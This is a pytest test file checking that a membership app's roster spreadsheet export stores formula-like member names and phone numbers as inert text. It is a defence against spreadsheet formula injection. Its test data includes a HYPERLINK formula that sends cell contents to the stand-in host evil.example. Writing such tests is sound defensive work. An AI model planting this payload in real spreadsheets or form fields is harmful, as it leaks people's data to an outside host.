"""Issue 12: a member's name or phone cannot become a live formula in the roster export."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from members.models import Member
from members.spreadsheets import import_template, roster_export
from tests.conftest import make_member
from tests.spreadsheet_checks import formula_cells, values_of

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1", "@SUM(A1)", "-2+3"]


def _rows(data: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


def test_roster_export_writes_formula_like_names_as_text(tree):
    for name in EVIL:
        make_member(tree["b1"], name=name, phone="=1+1")
    members = Member.objects.filter(branch=tree["b1"]).select_related("branch")
    data = roster_export(members, show_id=lambda m: True)
    assert formula_cells(data) == []
    values = values_of(data)
    for name in EVIL:  # the text itself is kept, so the export imports back unchanged
        assert name in values
    ages = [row[13] for row in _rows(data)[1:]]
    assert ages
    assert all(isinstance(age, int) for age in ages)  # numbers stay numbers


def test_import_template_has_no_formula():
    for with_code in (True, False):
        assert formula_cells(import_template(with_branch_code=with_code)) == []
